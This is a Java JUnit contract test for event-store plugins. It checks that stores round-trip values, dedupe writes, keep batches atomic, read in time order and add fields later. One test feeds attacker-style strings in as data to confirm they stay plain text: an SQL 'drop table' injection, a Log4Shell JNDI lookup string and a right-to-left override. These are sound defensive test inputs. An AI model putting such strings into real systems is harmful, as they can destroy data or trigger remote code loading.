package io.weir.testkit;

import static io.weir.testkit.SampleEvents.all;
import static io.weir.testkit.SampleEvents.asked;
import static io.weir.testkit.SampleEvents.event;
import static io.weir.testkit.SampleEvents.nine;
import static io.weir.testkit.SampleEvents.number;
import static io.weir.testkit.SampleEvents.read;
import static io.weir.testkit.SampleEvents.sample;
import static io.weir.testkit.SampleEvents.test;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.weir.api.Address;
import io.weir.api.Event;
import io.weir.api.EventBuilder;
import io.weir.api.EventId;
import io.weir.api.EventType;
import io.weir.api.Field;
import io.weir.api.rule.Condition;
import io.weir.api.store.Store;
import io.weir.api.store.StoreException;
import io.weir.api.store.Table;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The contract of every store. A plugin's test creates databases; the contract has its own event
 * type, {@code sample_event}, with a field of each kind.
 */
public interface StoreContract extends StoreRowsContract, StoreRandomContract, StoreBackupContract {
  /** Every kind of value comes back as it was, to the microsecond; what is absent stays absent. */
  @Test
  default void givesBackWhatItWasGiven(@TempDir Path folder) throws Exception {
    try (Database database = database(folder);
        Store store = database.store()) {
      store.open(List.of(SAMPLE));
      List<Event> events = new ArrayList<>();
      events.add(
          sample(1, 0)
              .micros(Events.micros("2026-11-22T12:00:00.123456Z"))
              .put(ACCOUNT, "ann@a.example")
              .put(SIZE, Long.MAX_VALUE)
              .put(DELAY, 0.1)
              .put(SEEN, Events.micros("1999-12-31T23:59:59.999999Z"))
              .put(CLIENT_ADDRESS, Address.parse("2001:db8::1"))
              .times(3)
              .build());
      events.add(sample(2, 1).build());
      events.add(
          sample(3, 2)
              .put(ACCOUNT, "")
              .put(SIZE, -1L)
              .put(DELAY, 1e300)
              .put(CLIENT_ADDRESS, Address.parse("255.255.255.255"))
              .build());
      assertThat(store.write(events)).isEqualTo(3);
      assertThat(all(store, SAMPLE)).isEqualTo(events);
      assertThat(store.describe()).isNotBlank();
    }
  }

  /** However often it is offered, in whatever company. */
  @Test
  default void writingTwiceIsOnce(@TempDir Path folder) throws Exception {
    try (Database database = database(folder);
        Store store = database.store()) {
      store.open(List.of(SAMPLE));
      List<Event> events = nine();
      assertThat(store.write(events.subList(0, 5))).isEqualTo(5);
      assertThat(store.write(events.subList(0, 5))).isZero();
      assertThat(store.write(events.subList(3, 9))).isEqualTo(4);
      List<Event> twiceInOne = new ArrayList<>(events);
      Event another = event(50, 20_000, "new@a.example", 1, "192.0.2.9");
      twiceInOne.add(another);
      twiceInOne.add(another);
      assertThat(store.write(twiceInOne)).isEqualTo(1);
      assertThat(store.write(List.of())).isZero();
      assertThat(all(store, SAMPLE)).hasSize(10);
    }
  }

  /** Ids that differ in one part only are different events. */
  @Test
  default void everyPartOfAnIdCounts(@TempDir Path folder) throws Exception {
    try (Database database = database(folder);
        Store store = database.store()) {
      store.open(List.of(SAMPLE));
      List<Event> events = new ArrayList<>();
      for (EventId id :
          List.of(
              new EventId(1, 1, 1),
              new EventId(2, 1, 1),
              new EventId(1, 2, 1),
              new EventId(1, 1, 2),
              new EventId(Long.MIN_VALUE, Long.MAX_VALUE, Integer.MIN_VALUE),
              new EventId(Long.MAX_VALUE, 0, Integer.MAX_VALUE))) {
        events.add(sample(1, 0).id(id).build());
      }
      assertThat(store.write(events)).isEqualTo(6);
      assertThat(all(store, SAMPLE)).containsExactlyInAnyOrderElementsOf(events);
    }
  }

  /** All or nothing: a text longer than its column refuses the batch. */
  @Test
  default void aFailingBatchLeavesNothing(@TempDir Path folder) throws Exception {
    EventType wider =
        EventType.named("sample_event", "Declared with longer texts than the table has.")
            .fields(Field.text("account", 60_000, "Whose."), SIZE, DELAY, SEEN, CLIENT_ADDRESS)
            .kept()
            .build();
    try (Database database = database(folder);
        Store store = database.store()) {
      store.open(List.of(SAMPLE));
      Event good = event(1, 0, "ann@a.example", 1, "192.0.2.1");
      Event bad =
          new EventBuilder()
              .start(wider, good.micros())
              .id(new EventId(5, 5, 5))
              .put("account", "x".repeat(30_000))
              .build();
      assertThatThrownBy(() -> store.write(List.of(good, bad)))
          .isInstanceOfSatisfying(
              StoreException.class,
              e -> assertThat(e.reason()).isEqualTo(StoreException.Reason.CONTENT));
      assertThat(all(store, SAMPLE)).isEmpty();
      store.refuse(bad, "Data too long for 'account'\n; drop table refused");
      store.refuse(bad, "again");
      assertThat(number(store.sql("select count(*) as n from refused", 10), 0, "n")).isPositive();
      assertThat(store.write(List.of(good))).isEqualTo(1);
      assertThat(all(store, SAMPLE)).containsExactly(good);
    }
  }

  /** From included, until not; in order of time. */
  @Test
  default void readsByTimeInOrder(@TempDir Path folder) throws Exception {
    try (Database database = database(folder);
        Store store = database.store()) {
      store.open(List.of(SAMPLE));
      List<Event> events = nine();
      List<Event> shuffled = new ArrayList<>(events);
      Collections.shuffle(shuffled, new Random(3));
      store.write(shuffled);
      List<Event> read = new ArrayList<>();
      store.read(SAMPLE, events.get(2).time(), events.get(6).time(), read::add);
      assertThat(read).isEqualTo(events.subList(2, 6));
    }
  }

  /** Events are still there after a restart, and are known to be written. */
  @Test
  default void survivesReopening(@TempDir Path folder) throws Exception {
    try (Database database = database(folder)) {
      try (Store store = database.store()) {
        store.open(List.of(SAMPLE));
        store.write(nine());
      }
      try (Store store = database.store()) {
        store.open(List.of(SAMPLE));
        assertThat(all(store, SAMPLE)).isEqualTo(nine());
        assertThat(store.write(nine())).isZero();
      }
    }
  }

  /** The oldest go first, in steps; what is younger stays. */
  @Test
  default void forgetsTheOldest(@TempDir Path folder) throws Exception {
    try (Database database = database(folder);
        Store store = database.store()) {
      store.open(List.of(SAMPLE));
      store.write(nine());
      int gone = 0;
      for (int step = store.forget(SAMPLE, NOON.plusSeconds(7200), 4);
          step > 0;
          step = store.forget(SAMPLE, NOON.plusSeconds(7200), 4)) {
        assertThat(step).isLessThanOrEqualTo(4);
        gone += step;
      }
      assertThat(gone).isEqualTo(6);
      assertThat(all(store, SAMPLE)).isEqualTo(nine().subList(6, 9));
      assertThat(store.write(nine().subList(6, 9))).isZero();
    }
  }

  /** A newer vocabulary may add fields at the end. */
  @Test
  default void addsNewFieldsToOldTables(@TempDir Path folder) throws Exception {
    Field added = Field.text("helo_name", 100, "Added later.");
    EventType newer =
        EventType.named("sample_event", "For tests.")
            .fields(ACCOUNT, SIZE, DELAY, SEEN, CLIENT_ADDRESS, added)
            .indexed(ACCOUNT)
            .counted(ACCOUNT, CLIENT_ADDRESS)
            .summed(SIZE)
            .rolledUp(List.of("account"), SIZE)
            .searched(ACCOUNT, added)
            .kept()
            .build();
    try (Database database = database(folder)) {
      try (Store store = database.store()) {
        store.open(List.of(SAMPLE));
        store.write(List.of(event(1, 0, "ann@a.example", 1, "192.0.2.1")));
      }
      try (Store store = database.store()) {
        store.open(List.of(newer));
        Event second =
            new EventBuilder()
                .start(newer, NOON.getEpochSecond() * 1_000_000 + 1)
                .id(new EventId(1, 1, 1))
                .put(added, "mx.example")
                .build();
        assertThat(store.write(List.of(second))).isEqualTo(1);
        List<Event> read = all(store, newer);
        assertThat(read).hasSize(2);
        assertThat(read.get(0).text("helo_name")).isNull();
        assertThat(read.get(0).text("account")).isEqualTo("ann@a.example");
        assertThat(read.get(1)).isEqualTo(second);
      }
    }
  }

  /** Written by attackers: stored as it stands, found again, different from what looks alike. */
  @Test
  default void hostileTextsStayText(@TempDir Path folder) throws Exception {
    List<String> texts =
        List.of(
            "!",
            "'; drop table sample_event; --",
            "\"`\\'\\\\",
            "%_[a-z]*?",
            "a",
            "A",
            "a ",
            " a",
            "ä",
            "a\u0308",
            "\ud83d\udce7 ☃ \u202eevil",
            "\t\r\n\u0001\u007f",
            "\ufffd",
            "null",
            "NULL",
            "\\N",
            "İıßẞ",
            "${jndi:ldap://192.0.2.1/a}",
            "x".repeat(200),
            "ü".repeat(200),
            "\ud83d\udce7".repeat(100));
    try (Database database = database(folder);
        Store store = database.store()) {
      store.open(List.of(SAMPLE));
      List<Event> events = new ArrayList<>();
      for (String text : texts) {
        events.add(event(events.size(), events.size(), text, 1, "192.0.2.1"));
      }
      assertThat(store.write(events)).isEqualTo(texts.size());
      assertThat(all(store, SAMPLE)).isEqualTo(events);
      for (String text : texts) {
        for (Condition.Word word : List.of(Condition.Word.IS, Condition.Word.HAS)) {
          List<Event> found = read(store, asked().where(test("account", word, text)).most(99));
          assertThat(found).as(word + text).isEqualTo(with(events, text, word));
        }
      }
      Table counted = store.query(asked().distinct("account").most(1));
      assertThat(number(counted, 0, "distinct_account")).isEqualTo(texts.size());
      assertThat(store.query(asked().by("account").count().most(99)).rows()).hasSize(texts.size());
    }
  }

  private static List<Event> with(List<Event> events, String text, Condition.Word word) {
    List<Event> found = new ArrayList<>(events);
    found.removeIf(e -> !test("account", word, text).holds(e));
    Collections.reverse(found);
    return found;
  }
}
